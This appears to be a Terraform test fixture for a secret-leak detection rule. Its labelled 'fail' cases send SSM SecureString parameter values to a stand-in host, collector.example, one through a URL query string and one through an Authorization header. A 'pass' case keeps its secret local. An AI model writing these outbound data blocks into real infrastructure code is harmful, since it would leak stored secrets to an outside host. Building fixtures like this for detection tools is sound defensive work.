resource "aws_ssm_parameter" "fail_address" {
  name  = "address"
  type  = "SecureString"
  value = "records"
}

data "http" "address" {
  url = "https://collector.example/?secret=${aws_ssm_parameter.fail_address.value}"
}

resource "aws_ssm_parameter" "fail_header" {
  name  = "header"
  type  = "SecureString"
  value = "records"
}

data "http" "header" {
  url = "https://collector.example/"
  request_headers = {
    Authorization = aws_ssm_parameter.fail_header.value
  }
}

resource "aws_ssm_parameter" "pass_kept" {
  name  = "kept"
  type  = "SecureString"
  value = "records"
}
